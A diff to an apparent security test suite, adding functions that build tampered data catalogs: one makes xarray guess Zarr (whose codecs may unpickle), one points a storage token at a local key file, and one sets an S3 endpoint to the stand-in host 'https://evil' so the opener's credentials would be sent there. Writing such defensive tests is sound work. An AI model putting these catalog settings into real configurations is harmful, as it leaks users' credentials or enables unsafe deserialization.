@@ -207,6 +207,21 @@ def by_engine(catalog, canary):
     catalog["entries"]["stars"]["kwargs"]["engine"] = "kerchunk"
 
 
+def by_guessed_engine(catalog, canary):
+    """Left to guess, xarray would open it as Zarr, whose codecs may unpickle."""
+    catalog["entries"]["stars"]["reader"] = f"{READERS}:XArrayDatasetReader"
+    catalog["data"]["file"]["kwargs"]["url"] = "{CATALOG_DIR}/stars.zarr"
+
+
+def by_token(catalog, canary):
+    catalog["data"]["file"]["kwargs"] = {"url": "gs://x/stars.csv", "storage_options": {"token": "key.json"}}
+
+
+def by_endpoint(catalog, canary):
+    """The credentials of whoever opens it would be sent there."""
+    catalog["data"]["file"]["kwargs"] = {"url": "s3://x/y.csv", "storage_options": {"endpoint_url": "https://evil"}}
+
+
 def by_address_from_a_parameter(catalog, canary):
     catalog["user_parameters"]["how"] = {"default": "reference"}
     catalog["data"]["file"]["kwargs"]["url"] = "{how}://x"
